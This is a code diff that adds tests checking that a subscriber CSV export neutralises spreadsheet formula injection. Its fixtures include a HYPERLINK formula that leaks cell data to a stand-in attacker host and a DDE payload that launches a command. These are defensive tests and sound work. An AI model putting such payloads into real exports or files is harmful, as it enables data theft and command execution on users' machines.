@@ -15,6 +15,7 @@ import {
   suppress,
   unsubscribeAll,
 } from '../../subscribers/api.js';
+import { neutraliseCell } from '../../subscribers/csv-export.js';
 import { seedModelSections } from '../http/support.js';
 import type { TestDatabase } from '../support/test-db.js';
 import { createTestDatabase } from '../support/test-db.js';
@@ -193,6 +194,39 @@ describe('CSV export', () => {
       'foreign-regulation',
       'case-studies',
     ]);
+  });
+});
+
+describe('CSV export and spreadsheet formulas', () => {
+  it.each([
+    '=HYPERLINK("http://evil.example/leak?"&A2,"Click me")',
+    '+cmd|\' /C calc\'!A0',
+    '-2+3',
+    '@SUM(1+1)',
+  ])('writes the name %j with a leading quote, so a spreadsheet shows it and never runs it', async (name) => {
+    await addSubscriber(db, { email: 'formula@example.com', name, consentSource: 'import' });
+    const sink = new PassThrough();
+    const chunks: Buffer[] = [];
+    sink.on('data', (c: Buffer) => chunks.push(c));
+    await exportSubscribersCsv(db, sink);
+    const { parse } = await import('csv-parse/sync');
+    const rows = parse(Buffer.concat(chunks).toString('utf8'), { columns: true }) as { name: string }[];
+    expect(rows[0]?.name).toBe(`'${name}`);
+  });
+
+  it('quotes a cell starting with a tab or carriage return too (OWASP)', () => {
+    expect(neutraliseCell('\t=1+1')).toBe("'\t=1+1");
+    expect(neutraliseCell('\r=1+1')).toBe("'\r=1+1");
+    expect(neutraliseCell('a=1')).toBe('a=1');
+  });
+
+  it('leaves ordinary names alone', async () => {
+    await addSubscriber(db, { email: 'plain@example.com', name: '张律师 (a-b)', consentSource: 'import' });
+    const sink = new PassThrough();
+    const chunks: Buffer[] = [];
+    sink.on('data', (c: Buffer) => chunks.push(c));
+    await exportSubscribersCsv(db, sink);
+    expect(Buffer.concat(chunks).toString('utf8')).toContain('plain@example.com,张律师 (a-b),');
   });
 });
 
